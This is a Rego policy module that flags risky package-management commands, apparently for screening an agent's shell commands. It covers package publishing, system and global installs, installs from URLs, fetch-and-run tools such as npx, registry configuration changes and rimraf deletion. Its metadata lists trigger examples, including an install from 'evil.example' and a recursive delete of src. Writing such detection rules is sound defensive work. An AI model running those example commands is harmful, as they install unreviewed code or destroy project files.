# METADATA
# title: Packages
# description: |
#   Code of strangers that comes in, and code that goes out under the project's
#   name.
package guard.rules.packages

import data.guard.stage

# METADATA
# title: Publishes a package
# description: Others install it, and most registries do not let it be taken back.
# custom:
#   id: package.publish
#   remedy: run it with --dry-run; let a person publish
#   fires: npm publish
#   quiet: npm publish --dry-run
hit contains {"id": "package.publish", "tier": 3, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	_publishes(s)
	not stage.dry(s)
	msg := sprintf("publishes a package: %s", [stage.line(s)])
}

# METADATA
# title: Changes the machine's packages
# description: System packages change what every program on the machine runs on.
# custom:
#   id: package.system
#   remedy: use the project's own package manager, or ask a person
#   fires: sudo apt-get install -y jq
#   quiet: apt list --installed
hit contains {"id": "package.system", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	data.guard.tables.system_packages[s.name]
	_changes_packages(s)
	not stage.dry(s)
	msg := sprintf("changes the machine's packages: %s", [stage.line(s)])
}

# METADATA
# title: Installs for the whole machine
# description: Global installs run install scripts and change what other projects use.
# custom:
#   id: package.global
#   remedy: install it in the project
#   fires: npm install -g x
#   quiet: npm install
hit contains {"id": "package.global", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	_installs_globally(s)
	msg := sprintf("installs for the whole machine: %s", [stage.line(s)])
}

# METADATA
# title: Installs from an address
# description: A package from an address is reviewed and recorded by nobody, and may run scripts on installation.
# custom:
#   id: package.foreign
#   remedy: install it by name and version from the registry
#   fires: 'npm install https://evil.example/pkg.tgz'
#   quiet: npm install left-pad
hit contains {"id": "package.foreign", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	s.name in {"npm", "pnpm", "yarn", "bun", "pip", "pip3", "uv", "gem", "cargo", "poetry", "pipx", "python", "python3"}
	some word in s.args
	regex.match(`^(git\+|https?:|git:|ssh:|[a-z]+\+https?:)`, word)
	_installs(s)
	msg := sprintf("installs code from an address: %s", [stage.cut(word)])
}

# METADATA
# title: Downloads and runs a package
# description: The package is fetched and started in one step, without a look at it.
# custom:
#   id: package.fetch_run
#   remedy: add it to the project with a version, then run it
#   fires: npx -y unknown-pkg@latest
#   quiet: npx tsc --noEmit
hit contains {"id": "package.fetch_run", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	_fetches_and_runs(s)
	msg := sprintf("downloads and runs a package: %s", [stage.line(s)])
}

# METADATA
# title: Changes where packages come from
# description: A registry, proxy or script setting decides what every later installation runs.
# custom:
#   id: package.config
#   remedy: keep it in the project's own configuration and let a person review it
#   fires: npm config set ignore-scripts false
#   quiet: npm config get registry
hit contains {"id": "package.config", "tier": 3, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	s.name in {"npm", "pnpm", "yarn", "pip", "pip3", "gem", "bundle", "cargo", "poetry", "go", "composer"}
	_sets_source(s)
	msg := sprintf("changes where packages come from: %s", [stage.line(s)])
}

# METADATA
# title: Deletion by package
# description: rimraf, del-cli and trash delete trees as rm -r does.
# custom:
#   id: package.rimraf
#   remedy: delete named files
#   fires: npx rimraf src
#   quiet: npx eslint src
hit contains {"id": "package.rimraf", "tier": 3, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	_rimraf(s)
	msg := sprintf("recursive delete: %s", [stage.line(s)])
}

_publishes(s) if {
	s.name in {"npm", "yarn", "pnpm", "bun", "cargo", "poetry", "flit", "hatch", "uv", "lerna", "changeset", "nx", "vsce", "ovsx", "mix", "sbt"}
	stage.verb(s) in {"publish", "unpublish", "deprecate", "yank", "hex.publish", "dist-tag", "npm publish"}
}

_publishes(s) if {
	s.name == "twine"
	stage.verb(s) == "upload"
}

_publishes(s) if {
	s.name == "gem"
	stage.verb(s) in {"push", "yank"}
}

_publishes(s) if {
	s.name == "dotnet"
	some i, word in s.args
	word == "nuget"
	s.args[i + 1] in {"push", "delete"}
}

_publishes(s) if {
	s.name == "gh"
	s.sub in {"release create", "release upload", "release delete"}
}

_publishes(s) if {
	s.name in {"mvn", "mvnw", "gradle", "gradlew"}
	some word in s.args
	word in {"deploy", "publish", "release:perform", "uploadArchives", "publishToMavenCentral"}
}

_changes_packages(s) if {
	data.guard.tables.system_package_verbs[s.sub] == true
}

_changes_packages(s) if {
	s.sub == ""
	some word in s.operands
	data.guard.tables.system_package_verbs[word] == true
}

_changes_packages(s) if {
	s.name in {"pacman", "rpm", "dpkg", "nix-env", "emerge"}
	some flag in s.flags
	regex.match(`^(S|R|U|i|e|install|remove|purge|P|r|erase|upgrade|unmerge|C)$`, flag)
}

_installs_globally(s) if {
	s.name in {"npm", "pnpm", "bun", "yarn"}
	some flag in ["g", "global"]
	flag in s.flags
	_installs(s)
}

_installs_globally(s) if {
	s.name == "yarn"
	startswith(s.sub, "global")
}

_installs_globally(s) if {
	s.name in {"pip", "pip3"}
	"break-system-packages" in s.flags
}

_installs_globally(s) if {
	s.name == "corepack"
	stage.verb(s) == "enable"
}

_installs(s) if {
	some word in array.concat([s.sub], s.args)
	word in {"install", "i", "add", "update", "upgrade", "uninstall", "remove", "rm", "ci", "link", "un"}
}

_fetches_and_runs(s) if {
	s.name in {"npx", "bunx", "uvx", "pnpx"}
	some flag in ["y", "yes", "p", "package", "from"]
	flag in s.flags
}

_fetches_and_runs(s) if {
	s.name in {"npx", "bunx", "uvx", "pnpx"}
	some word in s.operands
	regex.match(`^(@[^/]+/)?[^@/]+@`, word)
}

_fetches_and_runs(s) if {
	s.name in {"pnpm", "yarn", "npm"}
	some word in array.concat([s.sub], s.operands)
	word in {"dlx", "create", "init"}
	count(s.operands) > 0
	_dlx(s, word)
}

_fetches_and_runs(s) if {
	s.name == "pipx"
	stage.verb(s) == "run"
}

_fetches_and_runs(s) if {
	s.name == "go"
	s.sub in {"run", "install"}
	some word in s.operands
	regex.match(`^[a-z0-9.-]+\.[a-z]+/.*@`, word)
}

_fetches_and_runs(s) if {
	s.name == "deno"
	some word in s.args
	regex.match(`^(https?:|npm:|jsr:)`, word)
}

_dlx(_, "dlx")

_dlx(s, "create") if s.name != "git"

_sets_source(s) if {
	words := array.concat(split(s.sub, " "), s.operands)
	words[0] in {"config", "set"}
	some verb in words
	verb in {"set", "delete", "edit"}
	some key in words
	regex.match(`(?i)(registry|index-url|extra-index|ignore-scripts|script-shell|proxy|cafile|strict-ssl|trusted-host|node-options|prefix|source|mirror)`, key)
}

_sets_source(s) if {
	s.name == "go"
	s.sub == "env"
	"w" in s.flags
}

_sets_source(s) if {
	s.name == "gem"
	stage.verb(s) == "sources"
	some flag in ["a", "add", "r", "remove"]
	flag in s.flags
}

_rimraf(s) if s.name in {"rimraf", "del-cli", "del", "trash-empty"}

_rimraf(s) if {
	s.name in {"npx", "bunx", "pnpx", "pnpm", "yarn"}
	some word in s.operands
	regex.match(`^(rimraf|del-cli)(@.*)?$`, word)
}
